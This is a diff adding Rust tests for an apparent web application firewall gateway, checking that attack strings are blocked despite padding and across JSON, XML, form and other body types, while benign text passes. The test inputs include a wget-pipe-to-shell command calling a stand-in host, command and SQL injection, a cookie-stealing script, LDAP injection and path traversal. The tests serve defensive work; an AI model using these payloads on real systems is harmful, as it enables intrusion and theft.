@@ -106,6 +106,95 @@ fn the_core_rules_alone_find_attacks_in_the_text_too() {
 }
 
 #[test]
+fn attacks_do_not_hide_behind_what_makes_the_engine_work_hard() {
+    let (gateway, node) = gateway(&format!("mode: blocking, rules: [ {CRS} ], timeout: 30s"));
+    let attacks =
+        ["$(wget http://evil.example/x.sh -O- | sh)", "*)(uid=*))(|(uid=*", "require('child_process').exec('id')"];
+    let paddings = [
+        "a", "<", "'", "a ", "/", "(", "\\", "$", "{", "${", ";", "| ", "`", "\"", "=", "()", "a.", "<a ", "x=", "-",
+        "#", "\n", " ", "@", "%", "select ", "union ",
+    ];
+    let mut passed = Vec::new();
+    for attack in attacks {
+        assert_eq!(post(&gateway, AGENT, &call("hello", attack)).status, 403, "{attack}");
+        for padding in paddings {
+            let padded = padding.repeat(3000 / padding.len());
+            for note in [format!("{padded} {attack}"), format!("{attack} {padded}")] {
+                if post(&gateway, AGENT, &call("hello", &note)).status != 403 {
+                    passed.push((attack, padding));
+                }
+            }
+        }
+    }
+    assert_eq!((passed, node.count()), (vec![], 0));
+}
+
+#[test]
+fn a_body_is_looked_at_whatever_its_type() {
+    // Every method may have the core rules' own say on types; here it is about bodies of types that they let pass.
+    let (gateway, node) = gateway(&format!("mode: blocking, rules: [ {CRS} ], timeout: 30s"));
+    let send = |kind: Option<&str>, body: &str| {
+        let kind = kind.map_or_else(String::new, |k| format!("Content-Type: {k}\r\n"));
+        let request = format!(
+            "POST /echo HTTP/1.1\r\nHost: gateway.test\r\n{AGENT}{kind}Content-Length: {}\r\n\r\n{body}",
+            body.len()
+        );
+        gateway.connect("alice").exchange(request.as_bytes()).unwrap().status
+    };
+    let attacks = [
+        ";cat /etc/passwd",
+        "1' or 1=1 union select a from b-- -",
+        "<script>alert(document.cookie)</script>",
+        "../../../../etc/passwd",
+    ];
+    let mut passed = Vec::new();
+    for attack in attacks {
+        let json = json!({ "a": attack }).to_string();
+        let escaped = attack.replace('&', "&amp;").replace('<', "&lt;");
+        let xml = format!("<a><b>{escaped}</b></a>");
+        let attribute = format!("<?xml version=\"1.0\"?>\n<a b=\"{escaped}\"/>");
+        let form = format!("a={}", attack.replace(' ', "+").replace(';', "%3b"));
+        for body in [&json, &xml, &attribute, &form] {
+            if send(None, body) != 403 {
+                passed.push((None, body.clone()));
+            }
+        }
+        for kind in ["text/xml", "application/xml", "application/soap+xml; charset=utf-8", "Application/XML"] {
+            for body in [&xml, &attribute, &json] {
+                if send(Some(kind), body) != 403 {
+                    passed.push((Some(kind), body.clone()));
+                }
+            }
+        }
+        for kind in ["multipart/related; boundary=x", "application/cloudevents+json", "application/csp-report"] {
+            if send(Some(kind), &json) != 403 {
+                passed.push((Some(kind), json.clone()));
+            }
+        }
+    }
+    assert_eq!((passed, node.count()), (vec![], 0));
+    for (kind, body) in [
+        (None, r#"{"a":"hello","b":[1,2]}"#),
+        (None, "a=hello&b=2"),
+        (Some("text/xml"), "<order id=\"7\"><item>Tea</item></order>"),
+        (Some("application/soap+xml"), "<?xml version=\"1.0\"?><a>text</a>"),
+    ] {
+        assert_eq!(send(kind, body), 200, "{kind:?} {body}: {}", gateway.stdout());
+    }
+}
+
+#[test]
+fn long_texts_are_looked_at_to_their_end() {
+    let (gateway, node) = gateway(&blocking());
+    let prose = "The committee met on Tuesday to discuss the budget for next year, which (as expected) grew by 4.5%. ";
+    for length in [3_000, 12_000, 30_000] {
+        let text = prose.repeat(length / prose.len());
+        assert_eq!(post(&gateway, AGENT, &call("hello", &text)).status, 200, "{length}: {}", gateway.stdout());
+    }
+    assert_eq!(node.count(), 3);
+}
+
+#[test]
 fn attacks_in_header_fields_path_and_query_are_refused() {
     let (gateway, node) = gateway(&blocking());
     for headers in [
